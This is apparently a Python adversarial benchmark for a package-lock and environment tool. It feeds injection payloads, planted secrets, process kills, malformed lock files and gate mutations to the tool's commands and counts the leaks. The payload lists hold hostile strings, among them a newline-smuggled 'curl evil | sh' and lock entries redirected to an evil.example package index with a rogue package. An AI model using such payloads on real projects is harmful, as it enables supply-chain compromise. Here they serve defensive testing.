"""The adversarial corpus of issue 12, in one run: injection, secrets, kills, malformed inputs and
gate mutations against the real verbs, on copies of this repository in a temporary directory.

    python benchmarks/adversarial.py [--seed N] [--secrets N] [--kills N] [--json]

Prints tried / refused / leaked / partial / traceback per class. The bad columns must be zero:
  leaked     an injected line reached an output, a planted secret reached a snapshot, a write left
             the intended directory, or the gate passed a change that alters what a platform installs;
  partial    a SIGKILL left a half-written file or a checkout that ``overlay restore`` cannot repair;
  traceback  a verb ended in exit 3 (a bug) instead of a one-line error.
Exit status 1 when any bad column is non-zero. Touches only its own temporary directory.

Round 3 (issue 19): every module of ``benchmarks/adversarial_r3/`` is imported and its
``run(tmp) -> dict`` called; each prints one row of counts:
  commands   verbs run;            tracebacks  exit 3 or a traceback;   hangs  no answer in time;
  leaked/planted  secrets that reached an output / secrets planted;    escapes  a command that ran,
  or a write outside the allowed place;  false_oks  exit 0 or "ok" where the input was bad;
  partials   leftovers of a killed or failed run;  wedges  a next run that fails because of them.
``--only-r3`` runs only round 3; ``--skip-r3`` only the classes above.

Round 4 (issue 31): every module of ``benchmarks/adversarial_r4/`` (image, streams, jobs, gitfifo,
unobtainable, secrets, policy), the same row of counts. ``--only-r4`` runs only round 4, ``--skip-r4``
leaves it out, ``--r4 MODULE`` picks modules.
"""

from __future__ import annotations

import argparse
import contextlib
import io
import json
import os
import random
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from dataclasses import asdict, dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from megacpp_env.cli import main  # noqa: E402
from megacpp_env.errors import SpecError  # noqa: E402

LOCK = "locks/pylock.smoke-linux-amd64.toml"


@dataclass
class Tally:
    tried: int = 0
    refused: int = 0
    leaked: int = 0
    partial: int = 0
    traceback: int = 0
    ok: int = 0  # accepted and harmless (a BOM, a benign mutation)

    @property
    def bad(self) -> int:
        return self.leaked + self.partial + self.traceback


def run_cli(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        rc = main(list(argv))
    return rc, out.getvalue(), err.getvalue()


def repo_copy(tmp: Path, name: str) -> Path:
    """stack.yaml, locks/ and overlays/ of this repository, committed in a fresh git repository."""
    repo = tmp / name
    repo.mkdir()
    shutil.copy(ROOT / "stack.yaml", repo / "stack.yaml")
    for sub in ("locks", "overlays"):
        shutil.copytree(ROOT / sub, repo / sub)
    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t", "GIT_COMMITTER_NAME": "t",
           "GIT_COMMITTER_EMAIL": "t@t"}  # fmt: skip
    for cmd in (["init", "-q", "-b", "main"], ["add", "-A"], ["commit", "-qm", "base"]):
        subprocess.run(["git", *cmd], cwd=repo, env=env, check=True, capture_output=True)
    return repo


def tree(root: Path) -> dict[str, float]:
    return {str(p): p.lstat().st_mtime for p in root.rglob("*") if ".git" not in p.parts}


# ---- injection -----------------------------------------------------------------------------------

SPEC_PAYLOADS = [
    "x\nRUN curl evil | sh", "x\r\nRUN evil", "x\u009b31m", "x\u202eevil", "x\u2066y", "x\u200by", "\ufeffx",
    "x\u00a0y", "x\x00y", "x \\", "x' && evil", "https://u:p4ss@h.example/x", "Bearer abcdef123456",
]  # fmt: skip
LOCK_PAYLOADS = [
    "3.20 \\\n    --hash=sha256:" + "e" * 64 + "\n--extra-index-url https://evil.example/simple\nevilpkg==6.6.6",
    "3.20\r--extra-index-url https://evil.example/simple",
    "3.20 --extra-index-url https://evil.example/simple",
    "3.20 #evil", "3.20\u202eevil", "3.20\\", "3.20; evil", "3.20\x85evil",
]  # fmt: skip


def injection(tmp: Path, tally: Tally) -> None:
    import copy

    import yaml

    from megacpp_env.spec import load_spec_text

    data = yaml.safe_load((ROOT / "stack.yaml").read_text())
    leaves = list(_leaves(data))
    for key in leaves:
        for payload in SPEC_PAYLOADS:
            tally.tried += 1
            doc = copy.deepcopy(data)
            _assign(doc, key, payload)
            try:
                load_spec_text(yaml.safe_dump(doc), ROOT / "stack.yaml")
            except SpecError:
                tally.refused += 1
            except Exception:
                tally.traceback += 1
            else:
                tally.leaked += 1
    _lock_injection(tmp, tally)


def _lock_injection(tmp: Path, tally: Tally) -> None:
    repo = repo_copy(tmp, "inject")
    original = (repo / LOCK).read_text()
    fields = {
        "version": ('version = "3.20"', "version = {}"),
        "marker": ('name = "idna"', 'name = "idna"\nmarker = {}'),
        "index": ('index = "https://pypi.org/simple"', "index = {}"),
        "hash": ('sha256 = "a7db850025b95ded1eae8a46181a1a6c56c92c96f0e2b005d9ff8dc0210cab44"', "sha256 = {}"),
        "command": ('command = "megacpp-env lock smoke', "command = {}"),
    }
    for name, (anchor, template) in fields.items():
        for payload in LOCK_PAYLOADS:
            tally.tried += 1
            value = json.dumps(payload if name != "hash" else "a" * 64 + payload[4:])
            text = original.replace(anchor, template.format(value) + ("" if name != "command" else " #"), 1)
            (repo / LOCK).write_text(text)
            for argv in (["lock", "--export-requirements", "smoke"], ["lock", "--check", "smoke"]):
                rc, _out, _err = run_cli(*argv, "--spec", str(repo / "stack.yaml"))
                export = (repo / "locks" / "smoke.linux-amd64.requirements.txt").read_text()
                if rc == 3:
                    tally.traceback += 1
                    break
                if "evil" in export.replace("# ", "#") and any(
                    not ln.startswith("#") and "evil" in ln for ln in export.splitlines()
                ):
                    tally.leaked += 1
                    break
            else:
                tally.refused += 1
            subprocess.run(["git", "checkout", "-q", "--", "locks"], cwd=repo, check=True)


def _leaves(node, key=()):
    if isinstance(node, dict):
        for k, v in node.items():
            yield from _leaves(v, (*key, k))
    elif isinstance(node, list):
        for i, v in enumerate(node):
            yield from _leaves(v, (*key, i))
    elif isinstance(node, str):
        yield key


def _assign(doc, key, value):
    for part in key[:-1]:
        doc = doc[part]
    doc[key[-1]] = value


# ---- secrets -------------------------------------------------------------------------------------


def secrets(tmp: Path, tally: Tally, n: int, seed: int) -> None:
    from hypothesis import HealthCheck, given, settings
    from hypothesis import seed as hseed

    from megacpp_env.redact import env_value_redaction
    from tests.fixtures.secrets import plants

    planted = []

    @hseed(seed)
    @settings(max_examples=n, database=None, deadline=None, suppress_health_check=list(HealthCheck))
    @given(plants())
    def unit(plant) -> None:
        planted.append(plant)
        tally.tried += 1
        if plant.secret in env_value_redaction(plant.name, plant.value).text:
            tally.leaked += 1
        else:
            tally.refused += 1

    unit()
    _secrets_in_a_real_snapshot(tmp, tally, planted[-40:])


def _secrets_in_a_real_snapshot(tmp: Path, tally: Tally, batch) -> None:
    """One real snapshot with a batch of the planted secrets in the environment and a git remote."""
    from megacpp_env.snapshot.collect import SnapshotOptions, take_snapshot

    repo = tmp / "secret-checkout"
    repo.mkdir()
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    subprocess.run(
        ["git", "-C", str(repo), "remote", "add", "o", "https://ci:Sx;p,a/s@s@git.example/r.git"], check=True
    )
    environ = {k: v for k, v in os.environ.items() if k != "VIRTUAL_ENV"}
    unique = {p.name: p for p in batch}
    environ.update({p.name: p.value for p in unique.values()})
    environ["MEGACPP_ENV_CACHE_DIR"] = str(tmp / "cache")
    snap = take_snapshot(SnapshotOptions(environ=environ, paths=(repo,), cache_dir=tmp / "cache"))
    text = snap.to_json() + json.dumps(snap.to_dict(), ensure_ascii=True)
    for secret in [p.secret for p in unique.values()] + ["Sx;p,a/s@s"]:
        tally.tried += 1
        if secret in text:
            tally.leaked += 1
        else:
            tally.refused += 1


# ---- kills ---------------------------------------------------------------------------------------

WRITER = """
import sys
from pathlib import Path
from megacpp_env.fsutil import atomic_write_bytes
path = Path(sys.argv[1])
i = 0
while True:
    atomic_write_bytes(path, (b"A" if i % 2 else b"B") * (1 << 20))
    i += 1
"""


def kills(tmp: Path, tally: Tally, n: int, seed: int) -> dict[str, int]:
    """SIGKILL a process in the middle of atomic writes (n times) and of overlay applies."""
    rng = random.Random(seed)
    target = tmp / "killed" / "out.bin"
    target.parent.mkdir()
    target.write_bytes(b"A" * (1 << 20))
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    for _ in range(n):
        proc = subprocess.Popen([sys.executable, "-c", WRITER, str(target)], env=env)
        time.sleep(rng.uniform(0.05, 0.4))
        proc.send_signal(signal.SIGKILL)
        proc.wait()
        tally.tried += 1
        data = target.read_bytes()
        if data not in (b"A" * (1 << 20), b"B" * (1 << 20)):
            tally.partial += 1
        else:
            tally.refused += 1
    stray = list(target.parent.glob(".*.tmp"))
    for p in stray:  # a minute later (fsutil.STALE_S), the next write sweeps what dead writers left
        os.utime(p, (time.time() - 120, time.time() - 120))
    from megacpp_env.fsutil import atomic_write_bytes

    atomic_write_bytes(target, b"A" * (1 << 20))
    left = len(list(target.parent.glob(".*.tmp")))
    _overlay_kills(tmp, tally)
    return {"temp files left by the write kills": len(stray), "left after the next write": left}


def _overlay_kills(tmp: Path, tally: Tally) -> None:
    """Kill ``overlay apply`` after each file; ``restore`` must always bring the pristine tree back."""
    sys.path.insert(0, str(ROOT))
    from megacpp_env.overlay import restore_overlay
    from megacpp_env.worktree.status import overlay_status
    from tests.test_overlay import KILLER, RECORD_KILLER  # the test suite's fault injectors

    setup = _overlay_setup(tmp)
    if setup is None:
        print("note: overlay kills skipped: the smoke source is not served here (scripts/smoke-source.sh --serve)")
        return
    odir, checkout = setup
    pristine = _tree_bytes(checkout)
    for kill_after in range(1, 6):
        tally.tried += 1
        env = {**os.environ, "PYTHONPATH": str(ROOT)}
        subprocess.run([sys.executable, "-c", KILLER, str(odir), str(checkout), str(kill_after)], env=env,
                       capture_output=True, check=False)  # fmt: skip
        try:
            overlay_status(odir, checkout)
            restore_overlay(odir, checkout)
        except Exception:
            tally.partial += 1
            continue
        if _tree_bytes(checkout) != pristine:
            tally.partial += 1
        else:
            tally.refused += 1
    _record_kill(odir, checkout, pristine, RECORD_KILLER, tally)


def _record_kill(odir: Path, checkout: Path, pristine: dict[str, bytes], killer: str, tally: Tally) -> None:
    """A kill inside the provenance record's atomic write: apply, verify and restore must still work."""
    from megacpp_env.checkout import verify_checkout
    from megacpp_env.overlay import apply_overlay, restore_overlay

    tally.tried += 1
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    subprocess.run([sys.executable, "-c", killer, str(odir), str(checkout)], env=env, capture_output=True, check=False)
    try:
        apply_overlay(odir, checkout)
        wedged = not verify_checkout(checkout, overlay_dir=odir).ok
        restore_overlay(odir, checkout)
    except Exception:
        wedged = True
    if wedged or _tree_bytes(checkout) != pristine:
        tally.partial += 1
    else:
        tally.refused += 1


def _overlay_setup(tmp: Path):
    """The shipped smoke-ext overlay over a real checkout of its pinned source (the bundled repo)."""
    from megacpp_env.checkout import checkout_source
    from megacpp_env.spec import load_spec

    spec = load_spec(ROOT / "stack.yaml")
    source = spec.sources.get("megacpp_smoke_ext")  # served on loopback by scripts/smoke-source.sh
    if source is None or not source.overlay:
        return None
    try:
        checkout_source(source, tmp / "ovl-checkout")
    except Exception:
        return None
    return ROOT / "overlays" / source.overlay, tmp / "ovl-checkout"


def _tree_bytes(root: Path) -> dict[str, bytes]:
    return {
        str(p.relative_to(root)): p.read_bytes()
        for p in sorted(root.rglob("*"))
        if p.is_file() and ".git" not in p.parts
    }


# ---- malformed inputs ----------------------------------------------------------------------------

MUTATIONS = {
    "not utf-8": lambda t: t.encode().replace(b"idna", b"\xff\xfeidna"),
    "bom": lambda t: b"\xef\xbb\xbf" + t.encode(),
    "packages = string": lambda t: ('packages = "x"\n' + t.split("[[packages]]")[0]).encode(),
    "name = 5": lambda t: t.replace('name = "idna"', "name = 5", 1).encode(),
    "wheels = [1]": lambda t: t.replace("wheels = [", "wheels = [1, ", 1).encode(),
    "size = big": lambda t: t.replace("size = ", 'size = "big" #', 1).encode(),
    "deep nesting": lambda t: (t + "\n[tool.x]\ny = " + "[" * 5000 + "]" * 5000 + "\n").encode(),
    "truncated": lambda t: t[: len(t) // 2].encode(),
    "hashes = list": lambda t: t.replace("hashes = {", "hashes = [{", 1).replace("}}", "}]}", 1).encode(),
    "empty": lambda t: b"",
    "binary": lambda t: bytes(range(256)) * 4,
    "tool = 5": lambda t: t.replace("[tool.megacpp-env]", "[tool]\nmegacpp-env = 5\n[tool.other]", 1).encode(),
    "duplicate key": lambda t: t.replace('name = "idna"', 'name = "idna"\nname = "idna"', 1).encode(),
}


def malformed(tmp: Path, tally: Tally) -> None:
    repo = repo_copy(tmp, "malformed")
    original = (repo / LOCK).read_text()
    before = tree(tmp)
    for mutate in MUTATIONS.values():
        (repo / LOCK).write_bytes(mutate(original))
        snap = tmp / "snap.json"
        snap.write_bytes(mutate(original))
        for argv in (
            ["lock", "diff", str(repo / LOCK), str(repo / "locks" / "pylock.smoke-linux-arm64.toml")],
            ["lock", "--check", "smoke"],
            ["gate", "--base", "HEAD"],
            ["diff", str(snap), str(snap)],
            ["mirror", "smoke", "--platform", "linux/amd64", "--to", str(repo / "mirror")],
        ):
            tally.tried += 1
            rc, _out, _err = run_cli(*argv, "--spec", str(repo / "stack.yaml"))
            if rc == 3:
                tally.traceback += 1
            elif rc == 0:
                tally.ok += 1
            else:
                tally.refused += 1
        subprocess.run(["git", "checkout", "-q", "--", "locks"], cwd=repo, check=True)
    allowed = (str(repo / "locks"), str(repo / "mirror"), str(tmp / "snap.json"))
    outside = [p for p in tree(tmp) if p not in before and not p.startswith(allowed)]
    tally.leaked += len(outside)


# ---- gate mutations ------------------------------------------------------------------------------


def gate_mutations(tmp: Path, tally: Tally) -> None:
    """Changes that alter what linux/amd64 would install; each must fail the gate (exit 1)."""
    repo = repo_copy(tmp, "gate")
    text = (repo / LOCK).read_text()
    a = "a7db850025b95ded1eae8a46181a1a6c56c92c96f0e2b005d9ff8dc0210cab44"
    b = "ab7ae7122974553370f0bdb919e1a960b2cd1bc1ef0276416d896db81c14582c"
    start = text.index('[[packages]]\nname = "idna"')
    # the whole package entry (its sdist and wheel tables too), up to the next package
    idna = text[start : text.find("\n[[packages]]", start + 1) % (len(text) + 1)].rstrip("\n")
    assert a in idna and b in idna, "the smoke lock's idna entry changed: update the two hashes here"
    swapped = idna.replace(a, "1" * 64).replace(b, "2" * 64)
    split = (
        swapped.replace('name = "idna"', 'name = "idna"\nmarker = "sys_platform == \'linux\'"', 1)
        + "\n\n"
        + idna.replace('name = "idna"', 'name = "idna"\nmarker = "sys_platform != \'linux\'"', 1)
    )
    mutations = {
        "hash swap": text.replace(idna, swapped),
        "hash swap split by marker": text.replace(idna, split),
        "one hash replaced": text.replace(a, "3" * 64),
        "artifact host moved": text.replace(
            "https://files.pythonhosted.org/packages", "https://evil.example/packages", 1
        ),
        "index moved": text.replace('index = "https://pypi.org/simple"', 'index = "https://evil.example/simple"', 1),
        "downgrade": text.replace('name = "idna"\nversion = "3.20"', 'name = "idna"\nversion = "3.9"', 1),
    }
    for mutated in mutations.values():
        tally.tried += 1
        (repo / LOCK).write_text(mutated)
        rc, _out, _err = run_cli("gate", "--base", "HEAD", "--spec", str(repo / "stack.yaml"))
        if rc == 3:
            tally.traceback += 1
        elif rc == 0:
            tally.leaked += 1  # a bypass
        else:
            tally.refused += 1
        subprocess.run(["git", "checkout", "-q", "--", "locks"], cwd=repo, check=True)


# ---- report --------------------------------------------------------------------------------------


def main_(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--seed", type=int, default=12)
    parser.add_argument("--secrets", type=int, default=500)
    parser.add_argument("--kills", type=int, default=40)
    parser.add_argument("--json", action="store_true")
    parser.add_argument("--only-r3", action="store_true", help="run only the round-3 modules (issue 19)")
    parser.add_argument("--skip-r3", action="store_true", help="skip the round-3 modules")
    parser.add_argument("--r3", action="append", default=[], metavar="MODULE", help="only these round-3 modules")
    parser.add_argument("--only-r4", action="store_true", help="run only the round-4 modules (issue 31)")
    parser.add_argument("--skip-r4", action="store_true", help="skip the round-4 modules")
    parser.add_argument("--r4", action="append", default=[], metavar="MODULE", help="only these round-4 modules")
    args = parser.parse_args(argv)
    r3: dict[str, dict[str, int]] = {}
    r4: dict[str, dict[str, int]] = {}
    if not args.skip_r4 and not args.only_r3:
        r4 = round_modules("adversarial_r4", args.r4)
    if args.only_r4:
        return report_r3(r4, as_json=args.json, title="round 4 (issue 31)")
    if not args.skip_r3:
        r3 = round3(args.r3)
    if args.only_r3:
        return report_r3(r3, as_json=args.json)
    results: dict[str, Tally] = {}
    notes: dict[str, int] = {}
    with tempfile.TemporaryDirectory(prefix="megacpp-adversarial-") as d:
        tmp = Path(d)
        started = time.perf_counter()
        for name, fn in (
            ("injection", lambda t: injection(tmp, t)),
            ("secrets", lambda t: secrets(tmp, t, args.secrets, args.seed)),
            ("kills", lambda t: notes.update(kills(tmp, t, args.kills, args.seed))),
            ("malformed inputs", lambda t: malformed(tmp, t)),
            ("gate mutations", lambda t: gate_mutations(tmp, t)),
        ):
            results[name] = Tally()
            fn(results[name])
        seconds = round(time.perf_counter() - started, 1)
    if args.json:
        print(
            json.dumps(
                {
                    "classes": {k: asdict(v) for k, v in results.items()},
                    "notes": notes,
                    "seconds": seconds,
                    "round3": r3,
                    "round4": r4,
                }
            )
        )
    else:
        print(f"{'class':18} {'tried':>6} {'refused':>8} {'ok':>5} {'leaked':>7} {'partial':>8} {'traceback':>10}")
        for name, t in results.items():
            print(f"{name:18} {t.tried:6} {t.refused:8} {t.ok:5} {t.leaked:7} {t.partial:8} {t.traceback:10}")
        for key, value in notes.items():
            print(f"note: {key}: {value}")
        print(f"took {seconds}s")
        if r3:
            report_r3(r3, as_json=False)
        if r4:
            report_r3(r4, as_json=False, title="round 4 (issue 31)")
    return 1 if any(t.bad for t in results.values()) or _r3_bad(r3) or _r3_bad(r4) else 0


# ---- round 3 (issue 19): benchmarks/adversarial_r3/<area>.py ------------------------------------------

R3_KEYS = ("commands", "tracebacks", "hangs", "leaked", "planted", "escapes", "false_oks", "partials", "wedges")
R3_BAD = ("tracebacks", "hangs", "leaked", "escapes", "false_oks", "partials", "wedges")


def round3(only: list[str]) -> dict[str, dict[str, int]]:
    """Import every module of benchmarks/adversarial_r3/ and run it in a temporary directory of its own."""
    return round_modules("adversarial_r3", only)


def round_modules(package: str, only: list[str]) -> dict[str, dict[str, int]]:
    """Import every module of benchmarks/<package>/ and run it in a temporary directory of its own."""
    import importlib
    import pkgutil

    pkg = importlib.import_module(f"benchmarks.{package}")
    out: dict[str, dict[str, int]] = {}
    for info in sorted(pkgutil.iter_modules(pkg.__path__), key=lambda m: m.name):
        if info.name.startswith("_") or (only and info.name not in only):
            continue
        module = importlib.import_module(f"benchmarks.{package}.{info.name}")
        with tempfile.TemporaryDirectory(prefix=f"megacpp-adv-{package[-2:]}-{info.name}-") as d:
            started = time.perf_counter()
            counts = module.run(Path(d))
            counts = {key: int(counts.get(key, 0)) for key in R3_KEYS}
            counts["seconds"] = round(time.perf_counter() - started)
        out[info.name] = counts
    return out


def _r3_bad(r3: dict[str, dict[str, int]]) -> bool:
    return any(row.get(key, 0) for row in r3.values() for key in R3_BAD)


def report_r3(r3: dict[str, dict[str, int]], *, as_json: bool, title: str = "") -> int:
    total = {key: sum(row.get(key, 0) for row in r3.values()) for key in R3_KEYS}
    if as_json:
        print(json.dumps({"round4" if "4" in title else "round3": r3, "total": total}))
    else:
        if title:
            print(title)
        head = f"{'area':10} {'commands':>8} {'tracebacks':>10} {'hangs':>6} {'leaked/planted':>15} {'escapes':>8} "
        print(head + f"{'false oks':>9} {'partials':>9} {'wedges':>7}")
        for name, row in [*r3.items(), ("total", total)]:
            leak = f"{row['leaked']}/{row['planted']}"
            print(
                f"{name:10} {row['commands']:8} {row['tracebacks']:10} {row['hangs']:6} {leak:>15} "
                f"{row['escapes']:8} {row['false_oks']:9} {row['partials']:9} {row['wedges']:7}"
            )
    return 1 if _r3_bad(r3) else 0


if __name__ == "__main__":
    sys.exit(main_())
